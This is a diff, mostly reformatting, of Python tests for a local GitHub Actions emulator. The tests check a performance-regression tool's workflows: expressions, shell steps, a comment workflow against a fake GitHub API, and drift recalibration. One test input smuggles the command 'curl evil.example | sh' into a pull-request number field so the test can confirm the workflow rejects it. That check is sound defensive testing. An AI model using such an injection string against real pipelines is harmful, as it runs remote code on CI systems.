@@ -28,14 +28,20 @@ HEAD_SHA = "c0ffee" + "0" * 34
 
 # -- the harness itself, on GitHub's documented semantics --------------------------------------------
 
+
 def test_expressions_as_documented():
-    context = {"inputs": {"drift-variants": ""}, "steps": {"gem5-x86": {"outputs": {"cache-hit": "true"}}},
-               "github": {"event": {"workflow_run": {"conclusion": "failure", "event": "pull_request"}}}}
+    context = {
+        "inputs": {"drift-variants": ""},
+        "steps": {"gem5-x86": {"outputs": {"cache-hit": "true"}}},
+        "github": {"event": {"workflow_run": {"conclusion": "failure", "event": "pull_request"}}},
+    }
     assert evaluate("${{ inputs.drift-variants || '10' }}", context) == "10"  # an empty input falls back
     assert evaluate("${{ steps.gem5-x86.outputs.cache-hit != 'true' }}", context) is False
     assert evaluate("${{ 'Pull_Request' == github.event.workflow_run.event }}", context) is True  # ignores case
-    assert evaluate("${{ contains(fromJSON('[\"success\", \"failure\"]'), github.event.workflow_run.conclusion) }}",
-                    context) is True
+    assert (
+        evaluate('${{ contains(fromJSON(\'["success", "failure"]\'), github.event.workflow_run.conclusion) }}', context)
+        is True
+    )
     assert evaluate("a-${{ format('{0}-{1}', 'x', 1) }}", context) == "a-x-1"
     failed = {"failed": True, "cancelled": False}
     assert condition("steps.gem5-x86.outputs.cache-hit == 'true'", context, failed) is False  # success() && ...
@@ -44,15 +50,31 @@ def test_expressions_as_documented():
 
 
 def _tiny_workflow(tmp_path: Path, shell: str | None) -> Path:
-    document = {"on": "push", "jobs": {"j": {"runs-on": "ubuntu-24.04", "steps": [
-        {"id": "pipe", "run": "false | tee piped.txt\necho past-the-pipe"},
-        {"id": "files", "if": "always()", "run": 'echo "word=hello" >> "$GITHUB_OUTPUT"\n'
-                                                 'printf "LATER<<EOF\\nmulti\\nline\\nEOF\\n" >> "$GITHUB_ENV"\n'
-                                                 'echo "$RUNNER_TEMP/bin" >> "$GITHUB_PATH"\n'
-                                                 'echo "## summary" >> "$GITHUB_STEP_SUMMARY"'},
-        {"id": "after", "if": "always()", "env": {"WORD": "${{ steps.files.outputs.word }}"},
-         "run": 'echo "$WORD|$LATER|${PATH%%:*}" > seen.txt'},
-    ]}}}
+    document = {
+        "on": "push",
+        "jobs": {
+            "j": {
+                "runs-on": "ubuntu-24.04",
+                "steps": [
+                    {"id": "pipe", "run": "false | tee piped.txt\necho past-the-pipe"},
+                    {
+                        "id": "files",
+                        "if": "always()",
+                        "run": 'echo "word=hello" >> "$GITHUB_OUTPUT"\n'
+                        'printf "LATER<<EOF\\nmulti\\nline\\nEOF\\n" >> "$GITHUB_ENV"\n'
+                        'echo "$RUNNER_TEMP/bin" >> "$GITHUB_PATH"\n'
+                        'echo "## summary" >> "$GITHUB_STEP_SUMMARY"',
+                    },
+                    {
+                        "id": "after",
+                        "if": "always()",
+                        "env": {"WORD": "${{ steps.files.outputs.word }}"},
+                        "run": 'echo "$WORD|$LATER|${PATH%%:*}" > seen.txt',
+                    },
+                ],
+            }
+        },
+    }
     if shell:
         document["defaults"] = {"run": {"shell": shell}}
     path = tmp_path / f"tiny-{shell}.yml"
@@ -78,8 +100,10 @@ def test_run_steps_get_the_documented_shell_and_files(tmp_path, shell, pipe_fail
 
 # -- the comment workflow ---------------------------------------------------------------------------
 
+
 class FakeGitHub(BaseHTTPRequestHandler):
     """GET /repos/{owner}/{repo}/pulls/{number} of GitHub's REST API, from a table of pull requests."""
+
     pulls: dict[int, str] = {}
     seen: list[tuple[str, str]] = []
     status = 200
@@ -92,8 +116,13 @@ class FakeGitHub(BaseHTTPRequestHandler):
             body = json.dumps({"message": "Not Found" if code == 404 else "Server Error"}).encode()
         else:
             code = 200
-            body = json.dumps({"number": int(found.group(1)), "state": "open",
-                               "head": {"sha": self.pulls[int(found.group(1))], "ref": "faster-gemm"}}).encode()
+            body = json.dumps(
+                {
+                    "number": int(found.group(1)),
+                    "state": "open",
+                    "head": {"sha": self.pulls[int(found.group(1))], "ref": "faster-gemm"},
+                }
+            ).encode()
         self.send_response(code)
         self.send_header("Content-Type", "application/json; charset=utf-8")
         self.send_header("Content-Length", str(len(body)))
@@ -117,9 +146,17 @@ def github_api():
 
 
 def workflow_run_event(conclusion: str = "failure") -> dict:
-    return {"action": "completed", "workflow_run": {
-        "id": 9001, "event": "pull_request", "conclusion": conclusion, "head_sha": HEAD_SHA,
-        "head_branch": "faster-gemm", "head_repository": {"full_name": "fork/kernels"}}}
+    return {
+        "action": "completed",
+        "workflow_run": {
+            "id": 9001,
+            "event": "pull_request",
+            "conclusion": conclusion,
+            "head_sha": HEAD_SHA,
+            "head_branch": "faster-gemm",
+            "head_repository": {"full_name": "fork/kernels"},
+        },
+    }
 
 
 posted: list[dict] = []
@@ -141,8 +178,9 @@ def comment_runner(tmp_path, github_api, monkeypatch):
     workspace.mkdir()
 
     def make(artifact: dict[str, str] | None, conclusion: str = "failure") -> Runner:
-        runner = Runner(workspace, tmp_path / "runner", event_name="workflow_run",
-                        event=workflow_run_event(conclusion), api_url=url)
+        runner = Runner(
+            workspace, tmp_path / "runner", event_name="workflow_run", event=workflow_run_event(conclusion), api_url=url
+        )
         if artifact is not None:
             folder = runner.store / "artifacts" / "perfguard-comment"
             folder.mkdir(parents=True)
@@ -165,14 +203,21 @@ def test_comment_is_posted_for_the_commit_the_run_checked(comment_runner):
     assert api.seen == [("/repos/octo/kernels/pulls/17", "Bearer ghs_local-stand-in-token")]
 
 
-@pytest.mark.parametrize("artifact, conclusion, validate_ok, message", [
-    (None, "failure", True, None),  # the run stopped before reporting: nothing to post, still green
-    (dict(COMMENT, **{"pr-number": "17; curl evil.example | sh\n"}), "failure", False,
-     "::error title=perfguard comment::the artifact's pr-number is not a pull request number"),
-    (dict(COMMENT, **{"pr-number": "0\n"}), "failure", False, "is not a pull request number"),
-    ({"pr-number": "17\n"}, "failure", False, "::error title=perfguard comment::the artifact has no comment.md"),
-    (dict(COMMENT, **{"pr-number": "18\n"}), "success", False, None),  # no such PR: the API says 404
-])
+@pytest.mark.parametrize(
+    "artifact, conclusion, validate_ok, message",
+    [
+        (None, "failure", True, None),  # the run stopped before reporting: nothing to post, still green
+        (
+            dict(COMMENT, **{"pr-number": "17; curl evil.example | sh\n"}),
+            "failure",
+            False,
+            "::error title=perfguard comment::the artifact's pr-number is not a pull request number",
+        ),
+        (dict(COMMENT, **{"pr-number": "0\n"}), "failure", False, "is not a pull request number"),
+        ({"pr-number": "17\n"}, "failure", False, "::error title=perfguard comment::the artifact has no comment.md"),
+        (dict(COMMENT, **{"pr-number": "18\n"}), "success", False, None),  # no such PR: the API says 404
+    ],
+)
 def test_comment_workflow_refuses_what_it_cannot_trust(comment_runner, artifact, conclusion, validate_ok, message):
     make, api = comment_runner
     jobs = make(artifact, conclusion).run_workflow(WORKFLOWS / "perfguard-comment.yml")
@@ -228,6 +273,7 @@ def test_the_readme_comment_example_stays_green_without_an_artifact(comment_runn
 
 # -- the pull-request check, its merged verdict, and the caches of a red run -----------------------
 
+
 def _no_apt(runner, env):
     """The step that points apt at the snapshot and installs git and python3 in the container: this
     machine has them (the step itself is checked by tests/shells/test_ci_rules.py)."""
@@ -245,10 +291,18 @@ def pr_repository(measured_pull_request, tmp_path):
 @pytest.mark.slow
 def test_the_pull_request_workflow_gives_one_verdict_and_keeps_its_caches(pr_repository, tmp_path):
     workspace, event, head = pr_repository
-    runner = Runner(workspace, tmp_path / "runner", event_name="pull_request", event=event, sha=head,
-                    local_action=REPO, replaced={
-                        "Debian packages from the pinned snapshot, then what the checkout and setup.sh need": _no_apt,
-                        "setup": venv_of_this_interpreter("VENV")})
+    runner = Runner(
+        workspace,
+        tmp_path / "runner",
+        event_name="pull_request",
+        event=event,
+        sha=head,
+        local_action=REPO,
+        replaced={
+            "Debian packages from the pinned snapshot, then what the checkout and setup.sh need": _no_apt,
+            "setup": venv_of_this_interpreter("VENV"),
+        },
+    )
     jobs = runner.run_workflow(WORKFLOWS / "perfguard.yml", matrices={"check": {"target": "x86_64"}})
     check, merge = jobs["check"], jobs["merge"]
     assert check.succeeded, check.log  # fail-on-regression "false": the merge job gives the verdict
@@ -261,11 +315,17 @@ def test_the_pull_request_workflow_gives_one_verdict_and_keeps_its_caches(pr_rep
     assert (artifacts / "perfguard-report-targets-x86_64" / "perfguard.json").is_file()
     assert (artifacts / "perfguard-comment" / "pr-number").read_text().strip() == "17"
     merged = json.loads((artifacts / "perfguard-report-merged" / "perfguard.json").read_text())
-    assert {(r["kernel"], r["verdict"]) for r in merged["results"]} == {("gemm_a", "regression"),
-                                                                        ("gemm_b", "unchanged")}
+    assert {(r["kernel"], r["verdict"]) for r in merged["results"]} == {
+        ("gemm_a", "regression"),
+        ("gemm_b", "unchanged"),
+    }
     # The trust step ran for real: git in the job's HOME trusts the workspace.
-    trusted = subprocess.run(["git", "config", "--global", "--get-all", "safe.directory"], capture_output=True,
-                             text=True, env=dict(os.environ, HOME=str(check.home))).stdout.split()
+    trusted = subprocess.run(
+        ["git", "config", "--global", "--get-all", "safe.directory"],
+        capture_output=True,
+        text=True,
+        env=dict(os.environ, HOME=str(check.home)),
+    ).stdout.split()
     assert str(workspace) in trusted
     # The environment's cache is saved under the runner's and the distribution's key; the
     # simulation cache's save ran too (this project keeps its cache where its config's cache_dir
@@ -278,13 +338,16 @@ def test_the_pull_request_workflow_gives_one_verdict_and_keeps_its_caches(pr_rep
 
 # -- the recalibration's drift step -----------------------------------------------------------------
 
+
 @pytest.mark.slow
 def test_the_recalibration_leg_runs_its_drift_step(project, tmp_path):
     """x86_64's leg on a repository with a stored gemm model whose dataset holds one tiny shape: the
     requirements check and the real drift step (one fresh variant, timed natively), which finds no
     drift under wide limits, so nothing is uploaded and the job is green."""
-    config = project(config_text(["x86_64"]).replace("[perfguard]\n", "[perfguard]\ndrift_mape = 1e9\n"
-                                                     "drift_spearman = 0.0\n", 1), name="cal")
+    config = project(
+        config_text(["x86_64"]).replace("[perfguard]\n", "[perfguard]\ndrift_mape = 1e9\ndrift_spearman = 0.0\n", 1),
+        name="cal",
+    )
     workspace = config.parent
     models = workspace / "baselines" / "models" / "x86_64"
     models.mkdir(parents=True)
@@ -298,12 +361,22 @@ def test_the_recalibration_leg_runs_its_drift_step(project, tmp_path):
     shutil.copytree(REPO / "scripts", workspace / "scripts")  # the workflow is this repository's own
     init_repo(workspace)
     commit_all(workspace, "models")
-    runner = Runner(workspace, tmp_path / "runner", event_name="workflow_dispatch", event={},
-                    inputs={"drift-variants": "1", "max-cv": "50", "max-neighbour-busy": "0"}, replaced={
-                        "Debian packages from the pinned snapshot, then what the checkout and setup.sh need": _no_apt,
-                        "Install toolchains and perfguard": venv_of_this_interpreter("RUNNER_TEMP", "venv")})
-    job = runner.run_job(WORKFLOWS / "recalibrate.yml", "calibrate",
-                         matrix={"target": "x86_64", "runner": "ubuntu-24.04", "unvalidated": "0"})
+    runner = Runner(
+        workspace,
+        tmp_path / "runner",
+        event_name="workflow_dispatch",
+        event={},
+        inputs={"drift-variants": "1", "max-cv": "50", "max-neighbour-busy": "0"},
+        replaced={
+            "Debian packages from the pinned snapshot, then what the checkout and setup.sh need": _no_apt,
+            "Install toolchains and perfguard": venv_of_this_interpreter("RUNNER_TEMP", "venv"),
+        },
+    )
+    job = runner.run_job(
+        WORKFLOWS / "recalibrate.yml",
+        "calibrate",
+        matrix={"target": "x86_64", "runner": "ubuntu-24.04", "unvalidated": "0"},
+    )
     assert job.succeeded, job.log
     assert "this machine can run the x86_64 leg" in job.step("What this leg needs from its runner").log
     drift = job.step("Drift, then collect and train what drifted")
@@ -324,8 +397,10 @@ def test_a_leg_on_the_wrong_machine_stops_before_installing_anything(tmp_path):
     env = dict(os.environ, GITHUB_ACTIONS="true")
     proc = subprocess.run(["bash", script, other], cwd=tmp_path, capture_output=True, text=True, env=env)
     assert proc.returncode == 3
-    assert f"::error title=runner for {other}::this machine is {os.uname().machine}: native timing for {other} " \
-           f"needs {other} hardware" in proc.stdout
+    assert (
+        f"::error title=runner for {other}::this machine is {os.uname().machine}: native timing for {other} "
+        f"needs {other} hardware" in proc.stdout
+    )
     assert "git cannot read the checkout" in proc.stderr  # tmp_path is no checkout
     proc = subprocess.run(["bash", script, "vax"], capture_output=True, text=True)
     assert proc.returncode == 2 and "unknown target 'vax'" in proc.stderr
